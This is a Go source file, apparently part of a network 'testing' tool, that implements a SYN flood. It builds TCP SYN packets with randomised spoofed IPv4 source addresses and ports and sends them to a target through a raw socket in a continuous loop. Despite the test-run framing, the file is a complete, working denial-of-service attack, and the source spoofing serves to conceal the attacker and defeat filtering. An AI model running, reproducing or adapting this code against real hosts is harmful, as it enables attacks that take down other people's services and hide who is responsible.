//go:build linux

package tcpmethods

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"golang.org/x/sys/unix"
	"golang.org/x/time/rate"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/util"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

// SYNFlood crafts TCP SYN segments with spoofed IPv4 sources and writes them
// through a raw socket. Needs CAP_NET_RAW; the run fails up front without it.
type SYNFlood struct{}

func NewSYNFlood() *SYNFlood { return &SYNFlood{} }

func (m *SYNFlood) Name() string { return "SYN_FLOOD" }

func (m *SYNFlood) Prepare(params *domain.TestParameters) error {
	if _, _, err := domain.NormalizeHostPortTarget(params.Target); err != nil {
		return err
	}
	// spoofed-source packets cannot ride a proxy
	params.Proxies = nil
	return nil
}

func (m *SYNFlood) Preflight(run *worker.TestRun) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket unavailable, SYN_FLOOD requires CAP_NET_RAW: %w", err)
	}
	unix.Close(fd)
	return nil
}

type rawSocket struct {
	fd int
}

func (s rawSocket) Close() error {
	return unix.Close(s.fd)
}

func (m *SYNFlood) RunUnit(ctx context.Context, run *worker.TestRun) {
	host, port, err := domain.NormalizeHostPortTarget(run.Params.Target)
	if err != nil {
		run.Metrics.RecordFail()
		return
	}
	dst, err := net.ResolveIPAddr("ip4", host)
	if err != nil || dst.IP.To4() == nil {
		run.Metrics.RecordFail()
		return
	}
	dstIP := dst.IP.To4()

	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		run.Metrics.RecordFail()
		return
	}
	release, ok := run.Track(rawSocket{fd: fd})
	if !ok {
		unix.Close(fd)
		return
	}
	defer release()
	defer unix.Close(fd)

	var sa unix.SockaddrInet4
	copy(sa.Addr[:], dstIP)

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}

	limiter := rate.NewLimiter(rate.Every(time.Millisecond), 1)
	for ctx.Err() == nil {
		if limiter.Wait(ctx) != nil {
			return
		}

		ip := &layers.IPv4{
			Version:  4,
			IHL:      5,
			TTL:      64,
			Protocol: layers.IPProtocolTCP,
			SrcIP:    net.ParseIP(util.RandomIPv4()).To4(),
			DstIP:    dstIP,
		}
		tcp := &layers.TCP{
			SrcPort: layers.TCPPort(util.RandomPort()),
			DstPort: layers.TCPPort(port),
			Seq:     rand.Uint32(),
			SYN:     true,
			Window:  65535,
		}
		if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
			run.Metrics.RecordFail()
			continue
		}
		if err := gopacket.SerializeLayers(buf, opts, ip, tcp); err != nil {
			run.Metrics.RecordFail()
			continue
		}

		run.Metrics.RecordSent()
		if err := unix.Sendto(fd, buf.Bytes(), 0, &sa); err != nil {
			run.Metrics.RecordFail()
			continue
		}
		run.Metrics.RecordSuccess()
		run.Metrics.RecordBytes(len(buf.Bytes()))
	}
}
